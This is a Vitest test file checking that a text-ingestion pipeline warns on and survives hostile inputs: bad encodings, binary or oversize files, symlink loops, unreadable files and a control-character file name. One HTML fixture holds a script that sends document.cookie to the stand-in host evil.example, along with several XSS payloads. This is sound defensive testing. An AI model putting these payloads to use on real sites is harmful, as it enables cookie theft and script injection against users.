// Issue 7: every bad input gets a one-line warning naming the file and the reason, and the build
// goes on. Each case is generated here, read by collectInputs and ingested.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ingest, isSkipped, type IngestResult } from "../../src/ingest/index.js";
import type { Warning } from "../../src/ingest/types.js";
import { collectInputs, MAX_DEPTH, type InputFileSystem } from "../../src/io/inputs.js";
import { cp1252, deepTree, FRENCH_ARTICLE, GOOD_ARTICLE, PDF_BYTES, randomBytes, utf16, writeFile } from "./fixtures.js";

const MAX = 6 * 1024 * 1024;
let root: string;
let warnings: Warning[];
let results: Map<string, IngestResult>;

/**
 * The file system as the kernel would present it to an unprivileged user: files and directories
 * without read permission fail with EACCES. Needed because the tests run as root, which reads
 * anything; the decision uses the real mode bits set with chmod.
 */
const unprivileged: InputFileSystem = {
  stat: (p) => fs.promises.stat(p),
  lstat: (p) => fs.promises.lstat(p),
  realpath: (p) => fs.promises.realpath(p),
  readdir: async (p) => {
    if (((await fs.promises.stat(p)).mode & 0o444) === 0) throw Object.assign(new Error("EACCES: permission denied, scandir"), { code: "EACCES" });
    return fs.promises.readdir(p);
  },
  readFile: async (p) => {
    if (((await fs.promises.stat(p)).mode & 0o444) === 0) throw Object.assign(new Error("EACCES: permission denied, open"), { code: "EACCES" });
    return fs.promises.readFile(p);
  },
};

beforeAll(async () => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), "kg-hostile-"));
  const dir = path.join(root, "scraped");
  writeFile(dir, "good.txt", GOOD_ARTICLE);
  writeFile(dir, "empty.txt", "");
  writeFile(dir, "whitespace.txt", "  \n\n\t \r\n   \n");
  writeFile(dir, "renamed-pdf.txt", PDF_BYTES);
  writeFile(dir, "random-binary.txt", randomBytes(64 * 1024));
  const bad = Buffer.from(GOOD_ARTICLE.replace("Friday", "Friday \u00e9t\u00e9"), "utf8");
  const at = bad.indexOf("Friday") + 7;
  bad[at] = 0xff; // breaks the "é" that follows into invalid bytes
  writeFile(dir, "invalid-utf8.txt", bad);
  writeFile(dir, "utf16-le.txt", utf16(GOOD_ARTICLE, "le"));
  writeFile(dir, "utf16-be.txt", utf16(GOOD_ARTICLE, "be"));
  writeFile(dir, "cp1252.txt", cp1252(GOOD_ARTICLE.replace("Friday", "Friday, shouting “Justicia” – ‘now’")));
  writeFile(dir, "crlf.txt", GOOD_ARTICLE.replace(/\n/g, "\r\n"));
  writeFile(dir, "oversize.txt", `${GOOD_ARTICLE}\n${"filler text ".repeat(Math.ceil((MAX + 1) / 12))}`);
  writeFile(dir, "one-line.txt", `${GOOD_ARTICLE.replace(/\n+/g, " ")} ${"The crowd chanted again. ".repeat(200_000)}`);
  const locked = writeFile(dir, "unreadable.txt", GOOD_ARTICLE);
  fs.chmodSync(locked, 0o000);
  fs.mkdirSync(path.join(dir, "loop"));
  fs.symlinkSync("..", path.join(dir, "loop", "back-up"));
  fs.symlinkSync("self-link.txt", path.join(dir, "self-link.txt"));
  fs.symlinkSync("missing-target.txt", path.join(dir, "broken-link.txt"));
  deepTree(dir, MAX_DEPTH + 8);
  writeFile(dir, "french.txt", FRENCH_ARTICLE);
  writeFile(dir, "evil\n\u001b[2Jname\u202e.txt", "");
  writeFile(dir, "scripts.html", `<html><head><script>fetch("https://evil.example/steal?c="+document.cookie)</script></head><body><article><h1>Embassy protest</h1><p>${GOOD_ARTICLE.split("\n")[2]}</p><script>alert("xss")</script><img src=x onerror="alert(2)"><p>Police kept the crowd away, <b>witnesses</b> said.</p></article><iframe src="javascript:alert(3)"></iframe></body></html>`);

  const collected = await collectInputs(["scraped"], { cwd: root, maxFileSize: MAX, fs: process.getuid?.() === 0 ? unprivileged : undefined });
  warnings = [...collected.warnings];
  results = new Map();
  for (const raw of collected.inputs) {
    const r = ingest(raw);
    results.set(raw.id, r);
    warnings.push(...r.warnings);
  }
}, 60_000);

afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

const reasonsFor = (file: string) => warnings.filter((w) => w.file === `scraped/${file}`).map((w) => w.reason);
const articleOf = (id: string) => results.get(id)?.article;

describe("hostile inputs: one warning per problem, and the build goes on", () => {
  it("reads the good article untouched", () => {
    expect(articleOf("good.txt")?.text).toBe(GOOD_ARTICLE);
    expect(reasonsFor("good.txt")).toEqual([]);
  });

  it("every warning is one line naming a file", () => {
    expect(warnings.length).toBeGreaterThan(10);
    for (const w of warnings) {
      expect(w.file).toMatch(/^scraped\//);
      expect(w.file).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
      expect(w.reason).not.toMatch(/\n/);
      expect(w.reason.length).toBeLessThan(200);
    }
  });

  it("a file name with a newline, a terminal escape and a bidi override is printed escaped", () => {
    expect(reasonsFor("evil\\u{a}\\u{1b}[2Jname\\u{202e}.txt")).toEqual(["skipped: empty file"]);
  });

  it("empty file", () => {
    expect(reasonsFor("empty.txt")).toEqual(["skipped: empty file"]);
    expect(articleOf("empty.txt")).toBeUndefined();
  });

  it("whitespace-only file", () => {
    expect(reasonsFor("whitespace.txt")).toEqual(["skipped: only white space"]);
  });

  it("PDF renamed .txt", () => {
    expect(reasonsFor("renamed-pdf.txt")).toEqual(["skipped: not text but a PDF document"]);
  });

  it("random binary", () => {
    expect(reasonsFor("random-binary.txt")).toEqual(["skipped: not text but binary data (NUL bytes)"]);
  });

  it("invalid UTF-8: decoded with replacement, and said so", () => {
    expect(reasonsFor("invalid-utf8.txt")).toEqual(["invalid UTF-8: 2 bad byte sequences replaced with U+FFFD"]);
    expect(articleOf("invalid-utf8.txt")?.text).toContain("Friday \uFFFD\uFFFDt\u00e9");
  });

  it.each(["le", "be"])("UTF-16 %s with a byte-order mark: decoded correctly", (endian) => {
    expect(articleOf(`utf16-${endian}.txt`)?.text).toBe(GOOD_ARTICLE);
    expect(reasonsFor(`utf16-${endian}.txt`)).toEqual([`decoded as UTF-16${endian.toUpperCase()} (byte-order mark)`]);
  });

  it("Windows-1252 with curly quotes: decoded correctly", () => {
    expect(articleOf("cp1252.txt")?.text).toContain("shouting “Justicia” – ‘now’");
    expect(reasonsFor("cp1252.txt")).toEqual(["not valid UTF-8; decoded as Windows-1252"]);
  });

  it("CRLF line ends: converted", () => {
    expect(articleOf("crlf.txt")?.text).toBe(GOOD_ARTICLE);
    expect(reasonsFor("crlf.txt")).toEqual(["CRLF line ends converted to LF"]);
  });

  it("file over --max-file-size", () => {
    expect(reasonsFor("oversize.txt")).toEqual([`skipped: ${fs.statSync(path.join(root, "scraped", "oversize.txt")).size} bytes, over the limit of ${MAX} bytes (--max-file-size)`]);
    expect(results.has("oversize.txt")).toBe(false);
  });

  it("a single line of 5 MB: read, reported, in linear time", () => {
    const started = performance.now();
    const bytes = fs.readFileSync(path.join(root, "scraped", "one-line.txt"));
    const r = ingest({ id: "one-line.txt", path: "one-line.txt", bytes });
    expect(performance.now() - started).toBeLessThan(5000);
    expect(bytes.length).toBeGreaterThan(5_000_000);
    expect(r.article?.text.length).toBeGreaterThan(5_000_000);
    expect(reasonsFor("one-line.txt")).toEqual(["a single line of 5.0 million characters without a break"]);
  });

  it("unreadable file (permissions)", () => {
    expect(reasonsFor("unreadable.txt")).toEqual(["skipped: permission denied"]);
  });

  it("symlink loops and broken links", () => {
    expect(reasonsFor("loop/back-up")).toEqual(["skipped: symbolic link loop (links back to a directory being read)"]);
    expect(reasonsFor("self-link.txt")).toEqual(["skipped: symbolic link loop"]);
    expect(reasonsFor("broken-link.txt")).toEqual(["skipped: broken symbolic link"]);
  });

  it("very deep directories: read down to the limit, then a warning", () => {
    const deep = warnings.filter((w) => w.reason.startsWith("directory skipped: nested deeper"));
    expect(deep).toHaveLength(1);
    // scraped/deep/d0/... : the first directory below the limit is named
    expect(deep[0]!.file.split("/")).toHaveLength(1 + MAX_DEPTH + 1);
    expect(deep[0]!.reason).toBe(`directory skipped: nested deeper than ${MAX_DEPTH} levels below scraped`);
  });

  it("non-English article: skipped with a warning", () => {
    expect(reasonsFor("french.txt")).toEqual(["skipped: not English (looks French); the extraction rules are English-only"]);
  });

  it("HTML full of scripts: text only, no code, no handlers", () => {
    const text = articleOf("scripts.html")?.text ?? "";
    expect(text).toBe(`Embassy protest\n\n${GOOD_ARTICLE.split("\n")[2]}\n\nPolice kept the crowd away, witnesses said.`);
    for (const code of ["fetch", "cookie", "alert", "onerror", "javascript:"]) expect(text).not.toContain(code);
  });

  it("the good inputs all became articles", () => {
    const read = [...results].filter(([, r]) => r.article).map(([id]) => id).sort();
    expect(read).toEqual(["cp1252.txt", "crlf.txt", "good.txt", "invalid-utf8.txt", "one-line.txt", "scripts.html", "utf16-be.txt", "utf16-le.txt"]);
    expect(warnings.filter(isSkipped).length).toBe(11);
  });
});
